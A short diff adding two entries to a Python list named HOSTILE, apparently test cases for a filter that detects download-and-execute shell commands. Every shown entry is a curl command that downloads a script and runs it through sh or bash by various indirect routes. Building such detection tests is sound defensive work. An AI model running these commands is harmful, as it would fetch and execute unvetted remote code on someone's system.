@@ -225,6 +225,8 @@ HOSTILE = [
     r"curl -s $U/s.sh -o f; find f -exec sh {} \;",
     r"curl -s $U/s.sh -o f; xargs sh <<< f",
     r"curl -s $U/s.sh -o f; cat f > >(sh); sleep .2",
+    r"curl -s -o f $U/s.sh; bash -c '. ./f'",
+    r"curl -s -o f $U/s.sh; sh -c 'true && . ./f; exit'",
 ]
 
 
